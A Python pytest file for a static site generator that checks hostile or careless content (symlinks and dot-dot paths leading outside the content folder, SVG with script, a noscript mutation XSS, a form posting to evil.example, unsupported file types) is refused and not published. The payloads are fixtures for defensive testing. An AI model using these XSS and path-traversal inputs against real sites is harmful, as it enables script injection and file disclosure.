"""Hostile or careless content: refused with `file: field: problem`, nothing published.

Content comes from pull requests, pastes and CMS accounts. Each case below is an
attack family of issue 12 on a fresh copy of tests/fixtures/minimal, next to a
folder outside the content that holds a marker text: the build must stop (exit
1, the file named, no traceback), keep the last good output byte-identical, and
never let the marker reach the output.
"""

from __future__ import annotations

import os
import shutil

import pytest

from support import build_site, refused_build

MARKER = "MARQUEUR-HORS-DU-DEPOT"
SVG_SCRIPT = (f'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10" onload="alert(1)">'
              f'<script>alert("{MARKER}")</script><rect width="10" height="10"/></svg>')
METIER = "metiers/soudeur.md"


def outside(content):
    """A folder beside content/ (outside the repository's content) with marker files."""
    folder = content.parent / "outside"
    folder.mkdir(exist_ok=True)
    (folder / "x.svg").write_text(SVG_SCRIPT.replace("alert(1)", ""), encoding="utf-8")
    (folder / "secret.md").write_text(
        f"---\ntitle: {MARKER}\nslug: secret\nsummary: {MARKER}\nfamily: maintenance\nskills: [a]\n"
        f"workplaces: [a]\nkeywords: [a]\n---\n\n## {MARKER}\n", encoding="utf-8")
    (folder / "partners.yaml").write_text(f"partners:\n  - id: x\n    name: {MARKER}\n", encoding="utf-8")
    from PIL import Image
    Image.new("RGB", (40, 20), "red").save(folder / "photo.jpg")
    return folder


def body(content, text):
    path = content / METIER
    path.write_text(path.read_text(encoding="utf-8").replace("Assembler des pièces.", text),
                    encoding="utf-8")


def field(content, text):
    path = content / METIER
    path.write_text(path.read_text(encoding="utf-8").replace("family:", text + "\nfamily:"),
                    encoding="utf-8")


def symlink(content, rel, target):
    link = content / rel
    link.parent.mkdir(parents=True, exist_ok=True)
    os.symlink(target, link)


CASES = {
    # name: (setup(content, outside folder), expected fragment of the log)
    "symlinked image in an image field": (
        lambda c, o: (symlink(c, "images/photo.jpg", o / "photo.jpg"),
                      field(c, "image: images/photo.jpg\nimage_alt: Photo")),
        "soudeur.md: image: « images/photo.jpg » est un lien symbolique vers un fichier hors du contenu"),
    "dot-dot path in an image field": (
        lambda c, o: field(c, "image: images/../../outside/x.svg\nimage_alt: Photo"),
        "soudeur.md: image: « images/../../outside/x.svg » n'est pas dans le dossier images/"),
    "dot-dot path in a Markdown image": (
        lambda c, o: body(c, "![Photo](../../outside/photo.jpg)"),
        "soudeur.md: corps: image « ../../outside/photo.jpg » hors du dossier content/images"),
    "dot-dot path in an <img>": (
        lambda c, o: body(c, '<img src="/../outside/photo.jpg" alt="Photo">'),
        "soudeur.md: corps: image « /../outside/photo.jpg » hors du dossier content/images"),
    "symlinked image in a Markdown image": (
        lambda c, o: (symlink(c, "images/photo.jpg", o / "photo.jpg"), body(c, "![Photo](/images/photo.jpg)")),
        "images/photo.jpg: emplacement: lien symbolique vers un fichier hors du dossier du contenu"),
    "symlinked content file": (
        lambda c, o: symlink(c, "metiers/secret.md", o / "secret.md"),
        "metiers/secret.md: lien symbolique vers un fichier hors du dossier du contenu"),
    "symlinked content folder": (
        lambda c, o: symlink(c, "metiers/autres", o),
        "metiers/autres: emplacement: lien symbolique vers un dossier hors du dossier du contenu"),
    "symlinked data file": (
        lambda c, o: ((c / "data" / "partners.yaml").unlink(), symlink(c, "data/partners.yaml", o / "partners.yaml")),
        "data/partners.yaml: lien symbolique vers un fichier hors du dossier du contenu"),
    "static link outside": (
        lambda c, o: body(c, "[plan]({static}/../../outside/secret.md)"),
        "soudeur.md: corps: ligne 16 : lien « {static}/../../outside/secret.md » refusé"),
    "svg with script": (
        lambda c, o: ((c / "images" / "plan.svg").write_text(SVG_SCRIPT, encoding="utf-8"),
                      field(c, "image: images/plan.svg\nimage_alt: Plan")),
        "soudeur.md: image: SVG refusé : <svg> : attribut onload= refusé (script) ; élément <script> refusé"),
    "form in the body": (
        lambda c, o: body(c, '<form action="https://evil.example/"><input name="q"></form>'),
        "soudeur.md: corps: ligne 16 : balise <form> refusée"),
    "noscript mutation": (
        lambda c, o: body(c, '<noscript><p title="</noscript><svg onload=alert(1)>">x</p></noscript>'),
        "soudeur.md: corps: ligne 16 : balise <noscript> refusée"),
    "content poses as the search module": (
        lambda c, o: body(c, '<div data-module="search" data-index="/evil.json">x</div>'),
        "soudeur.md: corps: ligne 16 : attribut data-module= refusé sur <div>"),
    "html file": (
        lambda c, o: (c / "pages" / "vieux.html").write_text("<p>x</p>", encoding="utf-8"),
        "pages/vieux.html: emplacement: fichier non pris en charge"),
    "rst file": (
        lambda c, o: (c / "metiers" / "tourneur.rst").write_text("Tourneur\n========\n", encoding="utf-8"),
        "metiers/tourneur.rst: emplacement: fichier non pris en charge"),
    "markdown extension": (
        lambda c, o: shutil.copy(c / METIER, c / "metiers" / "x.markdown"),
        "metiers/x.markdown: emplacement: fichier non pris en charge, il ne serait pas publié"),
    "office file": (
        lambda c, o: (c / "formations" / "plaquette.docx").write_bytes(b"PK\x03\x04"),
        "formations/plaquette.docx: emplacement: fichier non pris en charge"),
    "text in images": (
        lambda c, o: (c / "images" / "notes.txt").write_text("x", encoding="utf-8"),
        "images/notes.txt: emplacement: fichier de type « .txt » dans images/"),
    "300-character slug": (
        lambda c, o: (c / METIER).write_text((c / METIER).read_text(encoding="utf-8").replace(
            "slug: soudeur", "slug: " + "-".join(["soudeur"] * 38)), encoding="utf-8"),
        "soudeur.md: slug: trop long (303 caractères, 100 au plus)"),
}


@pytest.mark.parametrize("case", sorted(CASES))
def test_hostile_content_is_refused(case, minimal_site, tmp_path, good_output, capfd):
    setup, expected = CASES[case]
    setup(minimal_site, outside(minimal_site))
    log = refused_build(minimal_site, good_output, tmp_path, capfd)
    assert expected in log, log  # refused_build: the output is the last good one, byte for byte


def test_symlinks_inside_the_content_folder_still_work(minimal_site, tmp_path):
    """Confinement is about where a file really is, not about links as such."""
    os.symlink("atelier.jpg", minimal_site / "images" / "atelier-lien.jpg")
    field(minimal_site, "image: images/atelier-lien.jpg\nimage_alt: Un atelier")
    result = build_site(minimal_site, tmp_path / "out")
    assert result.returncode == 0, result.log
